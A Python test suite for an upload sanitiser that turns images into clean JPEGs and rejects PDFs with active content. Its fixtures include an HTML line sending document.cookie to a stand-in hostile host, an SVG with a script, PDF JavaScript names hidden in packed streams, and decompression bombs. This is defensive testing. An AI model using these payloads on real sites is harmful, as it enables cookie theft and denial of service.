"""Only pixels survive an upload."""

import io
import struct
import zlib

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from app.berkas_objek import gambar, pdf
from app.berkas_objek.errors import BerkasBukanGambar, BerkasBukanPdf, BerkasTerlaluBesar, GambarRusak
from tests.pabrik.gambar import foto, foto_ber_gps

GIF = (
    b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
)
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<script>fetch('//jahat.test/'+document.cookie)</script>"


def _png(lebar: int, tinggi: int, isi: bytes = b"") -> bytes:
    """A PNG header that promises lebar x tinggi pixels."""

    def potong(jenis: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + jenis + data + struct.pack(">I", zlib.crc32(jenis + data))

    kepala = potong(b"IHDR", struct.pack(">IIBBBBB", lebar, tinggi, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + kepala + potong(b"IDAT", isi) + potong(b"IEND", b"")


def _buka(data: bytes) -> Image.Image:
    hasil = Image.open(io.BytesIO(data))
    hasil.load()
    return hasil


@pytest.mark.parametrize("jenis", ["JPEG", "PNG", "WEBP"])
def test_three_formats_become_jpeg(jenis: str) -> None:
    hasil = _buka(gambar.olah(foto(jenis=jenis)))
    assert (hasil.format, hasil.mode, hasil.size) == ("JPEG", "RGB", (64, 48))


def test_position_camera_and_orientation_are_gone_and_the_picture_stands_upright() -> None:
    asal = foto_ber_gps((60, 20))
    assert _buka(asal).getexif().get_ifd(0x8825)
    hasil = gambar.olah(asal)
    assert not _buka(hasil).getexif()
    assert _buka(hasil).size == (20, 60)
    assert b"PabrikKamera" not in hasil
    assert b"Exif" not in hasil


@pytest.mark.parametrize("tempat", ["comment", "behind", "icc", "xmp"])
def test_what_hides_in_a_valid_picture_does_not_survive(tempat: str) -> None:
    asal = {
        "comment": lambda: foto(comment=HTML),
        "behind": lambda: foto() + HTML,
        "icc": lambda: foto(icc_profile=HTML),
        "xmp": lambda: foto(xmp=HTML),
    }[tempat]()
    assert HTML in asal
    hasil = gambar.olah(asal)
    assert HTML not in hasil
    assert b"script" not in hasil


def test_long_side_is_at_most_1600() -> None:
    assert _buka(gambar.olah(foto((3300, 100)))).size == (1600, 48)
    assert _buka(gambar.olah(foto((100, 3300), "PNG"))).size == (48, 1600)


def test_transparency_becomes_white() -> None:
    keluar = io.BytesIO()
    Image.new("RGBA", (8, 8), (255, 0, 0, 0)).save(keluar, "PNG")
    assert _buka(gambar.olah(keluar.getvalue())).getpixel((4, 4)) == (255, 255, 255)


@pytest.mark.parametrize("mode", ["L", "LA", "P", "1", "CMYK", "I;16"])
def test_every_colour_mode_is_read(mode: str) -> None:
    keluar = io.BytesIO()
    Image.new(mode, (8, 8)).save(keluar, "JPEG" if mode == "CMYK" else "PNG")
    assert _buka(gambar.olah(keluar.getvalue())).mode == "RGB"


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"\0" * 100,
        GIF,
        GIF + foto(),
        SVG,
        HTML,
        b"%PDF-1.7\n" + foto(),
        b"PK\x03\x04" + foto(),
        b"BM" + b"\0" * 60,
    ],
    ids=["empty", "zeros", "GIF", "GIF in front", "SVG", "HTML", "PDF in front", "ZIP in front", "BMP"],
)
def test_anything_else_is_not_a_picture(data: bytes) -> None:
    with pytest.raises(BerkasBukanGambar):
        gambar.olah(data)


@pytest.mark.parametrize("jenis", ["JPEG", "PNG", "WEBP"])
def test_a_cut_off_picture_is_damaged(jenis: str) -> None:
    utuh = foto((400, 300), jenis)
    with pytest.raises(GambarRusak):
        gambar.olah(utuh[: len(utuh) // 2])


@pytest.mark.parametrize("ukuran", [(30_000, 30_000), (10_000, 10_000), (4_001, 4_000), (65_000, 65_000)])
def test_a_bomb_is_refused_from_its_header(ukuran: tuple[int, int]) -> None:
    with pytest.raises(BerkasTerlaluBesar):
        gambar.olah(_png(*ukuran, zlib.compress(b"\0" * 1000)))


def test_too_many_bytes_are_refused_unread() -> None:
    with pytest.raises(BerkasTerlaluBesar):
        gambar.olah(foto() + b"\0" * gambar.BITA_MAKS)


@settings(max_examples=150, deadline=None)
@given(st.data())
def test_damaged_bytes_never_surprise(data: st.DataObject) -> None:
    asal = bytearray(data.draw(st.sampled_from([foto(jenis=j) for j in ("JPEG", "PNG", "WEBP")])))
    for tempat in data.draw(st.lists(st.integers(0, len(asal) - 1), min_size=1, max_size=12)):
        asal[tempat] = data.draw(st.integers(0, 255))
    try:
        hasil = gambar.olah(bytes(asal))
    except (BerkasBukanGambar, GambarRusak, BerkasTerlaluBesar):
        return
    assert hasil.startswith(b"\xff\xd8")


PDF = b"%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def test_a_plain_pdf_passes() -> None:
    pdf.periksa(PDF)


@pytest.mark.parametrize(
    "data",
    [
        b"",
        HTML,
        b"x" + PDF,
        PDF[:-6],
        foto(),
        *(
            PDF.replace(b"/Type", n)
            for n in (b"/JavaScript", b"/JS", b"/Launch", b"/EmbeddedFile", b"/Encrypt", b"/J#53")
        ),
    ],
)
def test_another_or_active_file_is_no_plain_pdf(data: bytes) -> None:
    with pytest.raises(BerkasBukanPdf):
        pdf.periksa(data)


def arus(kepala: bytes, isi: bytes) -> bytes:
    """A PDF with one more object: a stream."""
    objek = b"2 0 obj\n<< %s /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (kepala, len(isi), isi)
    return PDF.replace(b"trailer", objek + b"trailer")


DERAU = bytes(range(128, 256)) + b"/JS\xa0" + bytes(range(128, 256))
SKRIP = b"7 0 << /S /JavaScript /JS (app.alert(1)) >>"


@pytest.mark.parametrize(
    "data",
    [
        arus(b"/Subtype /Image /Filter /DCTDecode", DERAU),
        arus(b"/Filter /FlateDecode", DERAU),
        arus(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"7 0 << /Type /Font >>")),
        arus(b"", b"BT /F1 12 Tf (Surat pengesahan) Tj ET"),
    ],
    ids=["picture", "page", "packed objects", "text"],
)
def test_compressed_noise_that_looks_like_a_name_is_no_script(data: bytes) -> None:
    pdf.periksa(data)


@pytest.mark.parametrize(
    "data",
    [
        arus(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SKRIP)),
        arus(b"/Type /Obj#53tm /Filter /FlateDecode", zlib.compress(SKRIP.replace(b"/JavaScript /JS", b"/J#53"))),
        arus(b"/Type /ObjStm", SKRIP),
        arus(b"/Filter /FlateDecode", SKRIP),
        arus(b"/Type /ObjStm /Filter /LZWDecode", DERAU),
        arus(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(SKRIP)[:-9]),
        arus(b"/Type /ObjStm /Filter /FlateDecode", zlib.compress(b"0" * (5 * pdf.BITA_MAKS))),
        arus(b"/Filter /FlateDecode /Encrypt 3 0 R", b"x"),
        arus(b"/X (stream) /Type /ObjStm /Filter /FlateDecode", zlib.compress(SKRIP)),
        arus(b"/X (stream) /Type /Obj#53tm /Filter /FlateDecode", zlib.compress(SKRIP)),
    ],
    ids=[
        *("packed", "written otherwise", "open", "amid text", "unknown packing", "cut off", "bomb", "dictionary"),
        *("hidden behind a word", "hidden and written otherwise"),
    ],
)
def test_a_script_is_found_where_objects_are_packed(data: bytes) -> None:
    with pytest.raises(BerkasBukanPdf):
        pdf.periksa(data)


def test_many_streams_without_an_end_are_looked_through_once() -> None:
    pdf.periksa(PDF.replace(b"trailer", b"stream\n" * 100_000 + b"trailer"))


def test_a_huge_pdf_is_refused() -> None:
    with pytest.raises(BerkasTerlaluBesar):
        pdf.periksa(PDF + b"\0" * pdf.BITA_MAKS)
